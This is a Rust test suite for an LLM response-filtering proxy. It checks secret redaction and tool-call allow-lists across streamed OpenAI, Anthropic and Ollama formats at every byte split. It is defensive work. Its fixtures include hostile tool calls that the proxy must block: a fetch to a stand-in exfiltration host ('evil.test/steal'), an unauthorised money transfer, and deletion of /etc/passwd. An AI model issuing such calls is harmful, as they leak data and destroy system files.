//! Streams through the whole exchange at many split points: for every shape, every cut of the
//! upstream's bytes gives the client a well-formed stream whose reassembled text is the redaction
//! of the whole text, with no secret in it, and only the allowed tool calls.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use std::sync::Arc;

use common::streams::*;
use llm_warden_engine::replay::{answer, post, replay, Split};
use llm_warden_engine::Policies;

const SECRET: &str = "SECRETSTRING123";

struct Shape {
    name: &'static str,
    path: &'static str,
    request: &'static str,
    content_type: &'static str,
    build: fn(&str, &[Call], usize) -> String,
    read: fn(&str) -> Seen,
}

const SHAPES: &[Shape] = &[
    Shape {
        name: "openai chat",
        path: "/v1/chat/completions",
        request: r#"{"model":"gpt-4o","stream":true,"messages":[{"role":"user","content":"hi"}]}"#,
        content_type: "text/event-stream",
        build: openai_chat_sse,
        read: read_openai_chat,
    },
    Shape {
        name: "anthropic",
        path: "/v1/messages",
        request: r#"{"model":"claude","max_tokens":10,"stream":true,"messages":[{"role":"user","content":"hi"}]}"#,
        content_type: "text/event-stream",
        build: anthropic_sse,
        read: read_anthropic,
    },
    Shape {
        name: "openai responses",
        path: "/v1/responses",
        request: r#"{"model":"gpt-4o","stream":true,"input":"hi"}"#,
        content_type: "text/event-stream",
        build: responses_sse,
        read: read_responses,
    },
    Shape {
        name: "ollama chat",
        path: "/api/chat",
        request: r#"{"model":"llama3.2:3b","messages":[{"role":"user","content":"hi"}]}"#,
        content_type: "application/x-ndjson",
        build: ollama_ndjson,
        read: read_ollama,
    },
];

/// Shapes that carry text only (no tool calls): covered by the text properties.
const TEXT_SHAPES: &[Shape] = &[Shape {
    name: "openai completions",
    path: "/v1/completions",
    request: r#"{"model":"gpt-3.5-turbo-instruct","stream":true,"prompt":"hi"}"#,
    content_type: "text/event-stream",
    build: openai_completions_sse,
    read: read_openai_chat,
}];

fn policies(json: &str) -> Arc<Policies> {
    Arc::new(Policies::from_json(json.as_bytes()).unwrap())
}

fn run(p: &Arc<Policies>, shape: &Shape, upstream: &str, split: &Split) -> (Seen, String) {
    let body = upstream.as_bytes().to_vec();
    let ct = shape.content_type;
    let out = replay(
        Arc::clone(p),
        &post(shape.path, shape.request),
        &move |_| answer(ct, &body),
        split,
    );
    let text = String::from_utf8(out.client_response.body).unwrap();
    ((shape.read)(&text), text)
}

fn splits(len: usize) -> Vec<Split> {
    let mut v: Vec<Split> = (1..=24).map(Split::Every).collect();
    v.extend([64, 100, 333, 4096].map(Split::Every));
    // Every single cut point.
    v.extend((1..len).step_by(7).map(|c| Split::At(vec![c])));
    v
}

#[test]
fn secrets_are_redacted_at_every_split() {
    let p = policies(&format!(r#"{{"secrets": {{"literals": ["{SECRET}"]}}}}"#));
    let text = format!("Here is the key {SECRET} and again {SECRET}. Bye.");
    let want = p.default_policy().secrets.redact(&text).text;
    assert!(!want.contains(SECRET));
    // REGRESSION: legacy Completions streams (`choices[].text`) passed unredacted.
    for shape in SHAPES.iter().chain(TEXT_SHAPES) {
        for per_event in [1, 2, 5] {
            let upstream = (shape.build)(&text, &[], per_event);
            for split in splits(upstream.len()) {
                let (seen, raw) = run(&p, shape, &upstream, &split);
                assert!(
                    !raw.contains(SECRET),
                    "{} {per_event} {split:?}: leaked",
                    shape.name
                );
                assert!(
                    seen.well_formed,
                    "{} {split:?}: malformed\n{raw}",
                    shape.name
                );
                assert_eq!(
                    seen.text, want,
                    "{} {per_event} {split:?}\n{raw}",
                    shape.name
                );
            }
        }
    }
}

#[test]
fn benign_streams_pass_byte_for_byte() {
    let p = policies("{}");
    let text = "The weather in Paris is mild today, with light rain expected later.";
    let calls = [call("get_weather", r#"{"city":"Paris"}"#)];
    for shape in SHAPES.iter().chain(TEXT_SHAPES) {
        let upstream = (shape.build)(text, &calls, 3);
        for split in [Split::Every(1), Split::Every(7), Split::Every(4096)] {
            let (_, raw) = run(&p, shape, &upstream, &split);
            assert_eq!(raw, upstream, "{} {split:?}", shape.name);
        }
    }
}

#[test]
fn disallowed_tool_calls_are_stripped_at_every_split() {
    let p =
        policies(r#"{"tools": {"default": "deny", "allow": ["get_weather"], "on_call": "strip"}}"#);
    let calls = [
        call("send_money", r#"{"to":"mallory","amount":1000}"#),
        call("get_weather", r#"{"city":"Paris"}"#),
        call("delete_file", r#"{"path":"/etc/passwd"}"#),
    ];
    for shape in SHAPES {
        let upstream = (shape.build)("Let me check.", &calls, 2);
        for split in splits(upstream.len()) {
            let (seen, raw) = run(&p, shape, &upstream, &split);
            assert!(seen.well_formed, "{} {split:?}", shape.name);
            assert!(
                !raw.contains("send_money") && !raw.contains("delete_file"),
                "{} {split:?}\n{raw}",
                shape.name
            );
            assert_eq!(seen.calls.len(), 1, "{} {split:?}\n{raw}", shape.name);
            assert_eq!(seen.calls[0].name, "get_weather");
            let args: serde_json::Value = serde_json::from_str(&seen.calls[0].arguments).unwrap();
            assert_eq!(args["city"], "Paris");
            assert_eq!(seen.text, "Let me check.", "{}", shape.name);
            assert!(seen.error.is_none());
        }
    }
}

#[test]
fn disallowed_tool_calls_end_the_stream_with_an_error() {
    let p = policies(r#"{"tools": {"default": "deny", "allow": ["get_weather"]}}"#);
    let calls = [
        call("get_weather", r#"{"city":"Paris"}"#),
        call("send_money", r#"{"to":"x"}"#),
    ];
    for shape in SHAPES {
        let upstream = (shape.build)("Sure.", &calls, 2);
        for split in [Split::Every(1), Split::Every(13), Split::Every(4096)] {
            let (seen, raw) = run(&p, shape, &upstream, &split);
            assert!(
                seen.calls.iter().all(|c| c.name == "get_weather"),
                "{} {split:?}\n{raw}",
                shape.name
            );
            assert!(
                seen.error.is_some(),
                "{} {split:?}: no error event\n{raw}",
                shape.name
            );
            assert!(
                !raw.contains("[DONE]")
                    && !raw.contains("message_stop")
                    && !raw.contains("\"done\":true"),
                "{} {split:?}: stream must not end cleanly after a block\n{raw}",
                shape.name
            );
        }
    }
}

#[test]
fn argument_rules_hold_the_call_until_complete() {
    let p = policies(
        r#"{"tools": {"arguments": [{"tool": "fetch_url", "pointer": "/url", "url_hosts": ["*.example.com"]}], "on_call": "strip"}}"#,
    );
    let good = call("fetch_url", r#"{"url":"https://docs.example.com/a"}"#);
    let bad = call("fetch_url", r#"{"url":"https://evil.test/steal?d=1"}"#);
    for shape in SHAPES {
        let upstream = (shape.build)("ok", &[bad.clone(), good.clone()], 1);
        for split in [Split::Every(1), Split::Every(9), Split::Every(4096)] {
            let (seen, raw) = run(&p, shape, &upstream, &split);
            assert!(
                !raw.contains("evil.test"),
                "{} {split:?}\n{raw}",
                shape.name
            );
            assert_eq!(seen.calls.len(), 1, "{} {split:?}\n{raw}", shape.name);
            assert!(seen.calls[0].arguments.contains("docs.example.com"));
        }
    }
}

/// REGRESSION: frames that are not text deltas (errors, unknown event types, progress lines)
/// were passed as they came, so a secret inside them reached the client.
#[test]
fn secrets_in_frames_of_unknown_shape_are_redacted() {
    let p = policies(&format!(r#"{{"secrets": {{"literals": ["{SECRET}"]}}}}"#));
    let rows: &[(&str, &str, &str, String)] = &[
        (
            "openai sse without choices",
            "/v1/chat/completions",
            "text/event-stream",
            format!("data: {{\"error\": {{\"message\": \"bad key {SECRET}\"}}}}\n\ndata: [DONE]\n\n"),
        ),
        (
            "anthropic error event",
            "/v1/messages",
            "text/event-stream",
            format!("event: error\ndata: {{\"type\": \"error\", \"error\": {{\"message\": \"{SECRET}\"}}}}\n\n"),
        ),
        (
            "responses unknown event",
            "/v1/responses",
            "text/event-stream",
            format!("event: response.future.thing\ndata: {{\"type\": \"response.future.thing\", \"note\": \"{SECRET}\"}}\n\n"),
        ),
        (
            "ollama progress line",
            "/api/pull",
            "application/x-ndjson",
            format!("{{\"status\": \"pulling {SECRET}\"}}\n{{\"status\": \"success\"}}\n"),
        ),
    ];
    for (name, path, ct, body) in rows {
        for split in [Split::Every(1), Split::Every(5), Split::Every(4096)] {
            let body = body.as_bytes().to_vec();
            let ct = ct.to_string();
            let p2 = Policies::from_json(
                format!(r#"{{"secrets": {{"literals": ["{SECRET}"]}}, "models": {{"allow_admin": ["/api/pull"]}}}}"#).as_bytes(),
            )
            .unwrap();
            let pol = if path.starts_with("/api/pull") {
                Arc::new(p2)
            } else {
                Arc::clone(&p)
            };
            let out = replay(
                pol,
                &post(path, r#"{"model":"llama3.2:3b","stream":true}"#),
                &move |_| answer(&ct, &body),
                &split,
            );
            let text = String::from_utf8(out.client_response.body).unwrap();
            assert!(!text.contains(SECRET), "{name} {split:?}: leaked\n{text}");
            assert!(
                text.contains("[REDACTED:"),
                "{name} {split:?}: no redaction\n{text}"
            );
        }
    }
}

/// REGRESSION: an OpenAI Chat call held for its argument rules was released only when the choice
/// finished, after every later call, so upstream [fetch_url#0, get_weather#1] reached the client
/// as [get_weather#0, fetch_url#1]. A held call keeps its place in every shape, at every split.
#[test]
fn held_calls_keep_their_place_at_every_split() {
    let p = policies(
        r#"{"tools": {"arguments": [{"tool": "fetch_url", "pointer": "/url", "url_hosts": ["*.example.com"]}], "on_call": "strip"}}"#,
    );
    let good = call("fetch_url", r#"{"url":"https://docs.example.com/a"}"#);
    let good2 = call("fetch_url", r#"{"url":"https://api.example.com/b"}"#);
    let bad = call("fetch_url", r#"{"url":"https://evil.test/steal"}"#);
    let weather = call("get_weather", r#"{"city":"Paris"}"#);
    let search = call("search", r#"{"q":"rain"}"#);
    // (name, upstream calls, calls the client must see, in order)
    let rows: Vec<(&str, Vec<Call>, Vec<Call>)> = vec![
        (
            "held first",
            vec![good.clone(), weather.clone()],
            vec![good.clone(), weather.clone()],
        ),
        (
            "held in the middle",
            vec![weather.clone(), good.clone(), search.clone()],
            vec![weather.clone(), good.clone(), search.clone()],
        ),
        (
            "two held in a row",
            vec![good.clone(), good2.clone(), weather.clone()],
            vec![good.clone(), good2.clone(), weather.clone()],
        ),
        (
            "held and stripped first",
            vec![bad.clone(), weather.clone(), good.clone()],
            vec![weather.clone(), good.clone()],
        ),
    ];
    for (name, calls, want) in &rows {
        for shape in SHAPES {
            let upstream = (shape.build)("ok", calls, 4);
            for split in splits(upstream.len()) {
                let (seen, raw) = run(&p, shape, &upstream, &split);
                let at = format!("{name}: {} {split:?}\n{raw}", shape.name);
                assert!(seen.well_formed && seen.error.is_none(), "{at}");
                let got: Vec<(String, serde_json::Value)> = seen
                    .calls
                    .iter()
                    .map(|c| (c.name.clone(), serde_json::from_str(&c.arguments).unwrap()))
                    .collect();
                let want: Vec<(String, serde_json::Value)> = want
                    .iter()
                    .map(|c| (c.name.clone(), serde_json::from_str(&c.arguments).unwrap()))
                    .collect();
                assert_eq!(got, want, "{at}");
                // Emitted in order too, not only numbered in order.
                let firsts: Vec<usize> = ["docs.example.com", "get_weather"]
                    .iter()
                    .filter_map(|s| raw.find(s))
                    .collect();
                if *name == "held first" {
                    assert!(firsts.windows(2).all(|w| w[0] < w[1]), "{at}");
                }
                assert!(!raw.contains("evil.test"), "{at}");
            }
        }
    }
}

/// (name, policy, upstream, calls the client sees, error code)
type HeldRow<'a> = (
    &'a str,
    &'a Arc<Policies>,
    String,
    Vec<Call>,
    Option<&'a str>,
);

/// A held call is decided when the next call starts: a blocked one ends the stream before any
/// later call reaches the client; a fragment of a decided call (an upstream interleaving calls)
/// is dropped, so the client sees exactly the arguments that were checked.
#[test]
fn held_calls_are_decided_when_the_next_call_starts() {
    let chunk = |tc: serde_json::Value, finish: serde_json::Value| {
        format!(
            "data: {}\n\n",
            serde_json::json!({"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "m",
                               "choices": [{"index": 0, "delta": {"tool_calls": [tc]}, "finish_reason": finish}]})
        )
    };
    let start = |j: u64, name: &str, args: &str| {
        chunk(
            serde_json::json!({"index": j, "id": format!("call_{j}"), "type": "function",
                               "function": {"name": name, "arguments": args}}),
            serde_json::Value::Null,
        )
    };
    let more = |j: u64, args: &str| {
        chunk(
            serde_json::json!({"index": j, "function": {"arguments": args}}),
            serde_json::Value::Null,
        )
    };
    let end = "data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"m\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"tool_calls\"}]}\n\ndata: [DONE]\n\n";
    let args_rule = r#"{"tool": "fetch_url", "pointer": "/url", "url_hosts": ["*.example.com"]}"#;
    let block = policies(&format!(r#"{{"tools": {{"arguments": [{args_rule}]}}}}"#));
    let strip = policies(&format!(
        r#"{{"tools": {{"arguments": [{args_rule}], "on_call": "strip"}}}}"#
    ));
    let rows: Vec<HeldRow> = vec![
        (
            "blocked held call ends the stream before the next call",
            &block,
            start(0, "fetch_url", r#"{"url":"https://evil.test/x"}"#)
                + &start(1, "get_weather", r#"{"city":"Paris"}"#)
                + end,
            vec![],
            Some("tool_not_allowed"),
        ),
        (
            "late fragment of a decided call is dropped",
            &strip,
            start(0, "fetch_url", r#"{"url":"https://docs.example.com/a"}"#)
                + &start(1, "get_weather", r#"{"city":"Paris"}"#)
                + &more(0, r#"{"url":"https://evil.test/x"}"#)
                + end,
            vec![
                call("fetch_url", r#"{"url":"https://docs.example.com/a"}"#),
                call("get_weather", r#"{"city":"Paris"}"#),
            ],
            None,
        ),
        (
            "held call split over fragments, then the next call",
            &strip,
            start(0, "fetch_url", r#"{"url":"https://docs."#)
                + &more(0, r#"example.com/a"}"#)
                + &start(1, "get_weather", r#"{"city":"Paris"}"#)
                + end,
            vec![
                call("fetch_url", r#"{"url":"https://docs.example.com/a"}"#),
                call("get_weather", r#"{"city":"Paris"}"#),
            ],
            None,
        ),
    ];
    let shape = &SHAPES[0];
    for (name, p, upstream, want, error) in &rows {
        for split in splits(upstream.len()) {
            let (seen, raw) = run(p, shape, upstream, &split);
            let at = format!("{name} {split:?}\n{raw}");
            assert!(seen.well_formed, "{at}");
            assert_eq!(&seen.calls, want, "{at}");
            assert_eq!(seen.error.as_deref(), *error, "{at}");
            assert!(!raw.contains("evil.test"), "{at}");
            if error.is_some() {
                assert!(
                    !raw.contains("get_weather") && !raw.contains("[DONE]"),
                    "{at}"
                );
            }
        }
    }
}
